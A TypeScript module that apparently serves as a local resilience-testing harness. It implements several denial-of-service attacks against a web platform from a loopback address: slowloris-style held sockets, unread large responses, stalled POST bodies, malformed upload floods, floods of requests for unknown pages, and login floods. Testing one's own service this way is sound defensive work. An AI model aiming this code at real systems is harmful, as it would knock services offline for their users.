import { connect, type Socket } from 'node:net';
import { setPriority } from 'node:os';
import { setTimeout as sleep } from 'node:timers/promises';
import * as v from 'valibot';
import { openVisitor } from './visitor.ts';

/** What is asked of a platform in an attack, by one address; nothing leaves this machine. */
export const Target = v.object({
  url: v.string(),
  /** Whose answers are large: `bytes` each. */
  picture: v.object({ path: v.string(), bytes: v.number() }),
  account: v.object({ email: v.string(), password: v.string() }),
});
export type Target = v.InferOutput<typeof Target>;

const ATTACKER = '127.0.66.6';
/** More than kernels keep for a connection whose reader does not read. */
const UNREAD_BYTES = 8_000_000;

const sockets = new Set<Socket>();

/** Keeps so many connections open that send this and read nothing. */
function hold({ url }: Target, count: number, bytes: string): void {
  const { hostname, port, host } = new URL(url);
  const to = { port: Number(port), host: hostname === 'localhost' ? '127.0.0.1' : hostname, localAddress: ATTACKER };
  const open = () => {
    const socket = connect(to);
    sockets.add(socket);
    socket.pause();
    socket.on('error', () => undefined);
    socket.once('close', () => {
      sockets.delete(socket);
      setTimeout(open, 500);
    });
    socket.write(bytes.replaceAll('HOST', host));
  };
  for (let i = 0; i < count; i++) open();
}

const headOf = (url: string, line: string, ...headers: string[]) =>
  [
    `${line} HTTP/1.1`,
    'Host: HOST',
    `Origin: ${url}`,
    'Sec-Fetch-Site: same-origin',
    'X-CSRF: 1',
    ...headers,
    '\r\n',
  ].join('\r\n');

/** So many that each ask again as soon as they have an answer. */
function flood(count: number, ask: (n: number) => Promise<unknown>): void {
  let n = 0;
  const one = async () => {
    for (;;) await ask(n++);
  };
  for (let i = 0; i < count; i++) void one();
}

const JSON_BODY = ['Content-Type: application/json', 'Content-Length: 5000'];
const FORM = 'multipart/form-data; boundary=limite';
const BROKEN = '--limite\r\nContent-Disposition: form-data; name="fichero"; filename="a.pdf"\r\n\r\n%PDF-1.4';

export const ATTACKS: Record<string, (target: Target) => unknown> = {
  'stalled readers': (target) => {
    const { path, bytes } = target.picture;
    hold(target, 110, headOf(target.url, `GET ${path}`).repeat(Math.min(8, Math.ceil(UNREAD_BYTES / bytes))));
  },
  'slow senders': (target) => hold(target, 110, `${headOf(target.url, 'POST /api/feedback', ...JSON_BODY)}{`),
  async 'broken uploads'(target) {
    const visitor = openVisitor(target.url, ATTACKER, 2);
    await visitor.logIn(target.account);
    flood(2, async () => {
      const length = { 'content-type': FORM, 'content-length': String(BROKEN.length) };
      await visitor.ask('POST', '/api/ficheros/cv', BROKEN, length);
      await sleep(100);
    });
  },
  'unknown pages': (target) => {
    const visitor = openVisitor(target.url, ATTACKER, 300);
    const kinds = ['/app/noticias/', '/app/empleo/oferta/x/', '/app/visita/producto/x/'];
    flood(300, (n) => visitor.ask('GET', `${kinds[n % kinds.length]}${10_000_000 + n}`));
  },
  'password queue': (target) => {
    const visitor = openVisitor(target.url, ATTACKER, 250);
    flood(250, async (n) => {
      await visitor.logIn({ email: `nadie-${n}@ejemplo.es`, password: 'una clave larga' });
      await sleep(20);
    });
  },
  'many sockets': (target) => hold(target, 3_000, 'GET /api/noticias HTTP/1.1\r\nHost: HOST\r\nX-Slow: '),
};

/** A process of its own, that leaves the processor to those who are measured: an attacker brings his own. */
if (import.meta.main) {
  setPriority(19);
  const target = v.parse(Target, JSON.parse(process.env.TARGET ?? '{}'));
  process.once('disconnect', () => process.exit(0));
  await ATTACKS[process.env.ATTACK ?? '']?.(target);
}
